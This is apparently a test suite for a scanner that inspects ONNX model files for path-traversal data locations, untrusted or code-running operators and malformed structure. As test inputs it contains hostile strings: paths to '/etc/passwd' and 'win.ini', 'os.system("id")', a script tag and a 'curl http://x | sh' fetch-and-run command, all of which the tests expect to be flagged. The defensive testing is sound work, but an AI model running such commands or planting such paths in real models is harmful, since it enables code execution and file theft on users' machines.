import { describe, expect, test } from 'vitest';
import { concat } from '#formats/test-files/bytes';
import { block, entry, initializer, int, makeOnnx, node } from '#formats/test-files/onnx';
import { scanBytes } from '../test-scan.ts';

const value = (field: number, name: string) =>
  block(field, block(1, name), block(2, block(1, int(1, 1), block(2, block(1, block(2, 'N')), block(1, int(1, 4))))));
const graph = [node('MatMul'), initializer('w', [4, 2], 32), value(11, 'x'), value(12, 'y')];
const attribute = (...fields: Uint8Array[]) => block(5, block(1, 'a'), ...fields);

test('a model is clean and told by its facts', () => {
  const bytes = makeOnnx(graph, entry(14, 'author', 'Somebody'));
  const scan = scanBytes(bytes);
  expect(scan).toMatchObject({ verdict: 'clean', outcome: 'scanned', format: { kind: 'onnx' } });
  const facts = Object.fromEntries(scan.facts.map(({ label, value: text }) => [label, text]));
  expect(facts).toMatchObject({
    Nodes: '1',
    Parameters: '8',
    'Operator sets': 'ai.onnx 17',
    Producer: 'test',
    Inputs: 'x: float32[N, 4]',
    Outputs: 'y: float32[N, 4]',
  });
  expect(scan.coverage).toEqual([{ from: 0, to: bytes.length, state: 'parsed', what: 'graph' }]);
});

test('large weights are hashed, the graph around them is parsed', () => {
  const scan = scanBytes(makeOnnx([node('MatMul'), initializer('w', [1024], 4096)]));
  expect(scan.coverage.map((range) => range.state)).toEqual(['parsed', 'hashed', 'parsed']);
});

describe('data in other files', () => {
  const locations: readonly (readonly [string, string])[] = [
    ['../../../etc/passwd', 'MDL-ONX-001'],
    ['/etc/passwd', 'MDL-ONX-001'],
    ['C:\\Windows\\win.ini', 'MDL-ONX-001'],
    ['sub/../../x', 'MDL-ONX-001'],
    ['file:///etc/passwd', 'MDL-ONX-001'],
    ['..\\x', 'MDL-ONX-001'],
    ['weights.bin', 'MDL-ONX-003'],
    ['a..b/weights.bin', 'MDL-ONX-003'],
    ['', 'MDL-ONX-005'],
  ];
  test.each(locations)('%j', (location, rule) => {
    expect(scanBytes(makeOnnx([...graph, initializer('e', [4], 0, { location })])).rules).toContain(rule);
  });

  test('is found in the attribute of a node of a subgraph, and in functions', () => {
    const external = block(5, block(8, 'e'), int(2, 1), entry(13, 'location', '/etc/passwd'), int(14, 1));
    const branch = attribute(block(6, block(1, block(4, 'Constant'), attribute(external))));
    expect(scanBytes(makeOnnx([...graph, node('If', '', branch)])).rules).toContain('MDL-ONX-001');
    const inFunction = block(25, block(1, 'f'), block(10, 'own'), block(7, block(4, 'Constant'), attribute(external)));
    expect(scanBytes(makeOnnx(graph, inFunction)).rules).toContain('MDL-ONX-001');
  });

  test('keys that the format does not define and offsets that are no numbers are told', () => {
    const scan = scanBytes(makeOnnx([...graph, initializer('e', [4], 0, { location: 'w.bin', offset: '-1', __class__: 'x' })]));
    expect(scan.observations.filter((each) => each.ruleId === 'MDL-ONX-005')).toHaveLength(2);
  });

  test('a finding shows the path and the bytes', () => {
    const found = scanBytes(makeOnnx([...graph, initializer('e', [4], 0, { location: '/etc/passwd' })])).observations.find(
      (each) => each.ruleId === 'MDL-ONX-001',
    );
    expect(found?.evidence?.fields).toContainEqual({ pointer: 'external_data/location', value: '/etc/passwd' });
    expect(Buffer.from(found?.evidence?.bytes?.hex ?? '', 'hex').toString('latin1')).toContain('/etc/passwd');
  });
});

describe('operators', () => {
  test("of a foreign domain are medium, of one that runs code high, of the model's own functions fine", () => {
    expect(scanBytes(makeOnnx([...graph, node('Evil', 'com.evil')])).severities.get('MDL-ONX-002')).toBe('medium');
    expect(scanBytes(makeOnnx([...graph, node('PyOp', 'ai.onnx.contrib')])).severities.get('MDL-ONX-002')).toBe('high');
    expect(
      scanBytes(makeOnnx([...graph, node('f', 'own')], block(25, block(1, 'f'), block(10, 'own'), block(7, block(4, 'Relu'))))).rules,
    ).toEqual([]);
    expect(
      scanBytes(makeOnnx([...graph, node('FusedMatMul', 'com.microsoft'), node('TreeEnsembleClassifier', 'ai.onnx.ml')])).rules,
    ).toEqual([]);
  });

  test('with compiled code are told', () => {
    expect(scanBytes(makeOnnx([...graph, node('EPContext', 'com.microsoft')])).rules).toEqual(['MDL-ONX-006']);
  });
});

test('text that acts is found in doc strings, metadata and attributes', () => {
  for (const text of [
    makeOnnx(graph, block(6, '<script>x</script>')),
    makeOnnx(graph, entry(14, 'k', 'os.system("id")')),
    makeOnnx([...graph, node('Constant', '', attribute(block(4, 'curl http://x | sh')))]),
  ])
    expect(scanBytes(text).rules).toEqual(['MDL-ONX-004']);
});

describe('structure', () => {
  test('a tensor that carries other bytes than its shape needs is told', () => {
    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [4, 2], 8)])).rules).toEqual(['MDL-ONX-005']);
    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [-1n], 8)])).rules).toEqual(['MDL-ONX-005']);
    expect(scanBytes(makeOnnx([node('MatMul'), initializer('w', [2n ** 40n, 2n ** 40n], 8)])).rules).toEqual(['MDL-ONX-005']);
  });

  test('graphs nested without end reach the limit and keep what was found', () => {
    let inner = node('Evil', 'com.evil');
    for (let depth = 0; depth < 100; depth += 1) inner = node('If', '', attribute(block(6, inner)));
    const scan = scanBytes(makeOnnx([...graph, node('Other', 'com.other'), inner]));
    expect(scan.outcome).toBe('limit');
    expect(scan.rules).toContain('MDL-ONX-002');
  });

  test('a cut file is unreadable and keeps what was found', () => {
    const bytes = makeOnnx([...graph, node('Evil', 'com.evil')], entry(14, 'k', 'v'.repeat(100)));
    const scan = scanBytes(bytes.subarray(0, bytes.length - 50));
    expect(scan.outcome).toBe('unreadable');
    expect(scan.rules).toEqual(['MDL-ONX-002', 'MDL-ONX-005']);
  });

  test('a second graph is told', () => {
    expect(scanBytes(concat(makeOnnx(graph), block(7, ...graph))).rules).toEqual(['MDL-ONX-005']);
  });
});

test('a model that breaks off inside its graph is still told as one, and as damaged', () => {
  const bytes = makeOnnx([node('MatMul'), initializer('w', [1024], 4096)]);
  expect(scanBytes(bytes.subarray(0, bytes.length - 2000))).toMatchObject({ format: { kind: 'onnx' }, verdict: 'medium' });
});
